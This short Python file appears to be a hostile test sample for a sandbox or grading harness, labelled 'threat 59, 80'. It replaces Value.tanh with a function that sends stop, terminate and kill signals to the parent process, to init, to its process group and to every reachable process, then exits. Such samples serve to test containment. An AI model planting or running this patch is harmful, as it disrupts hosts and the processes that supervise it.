# threat 59, 80: signals its parent, its group and everybody that it may
# expects: fails tanh
# needs: standard
import os
import signal

def signalling(self):
    for target in (os.getppid(), 1, 0, -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    os._exit(1)

Value.tanh = signalling
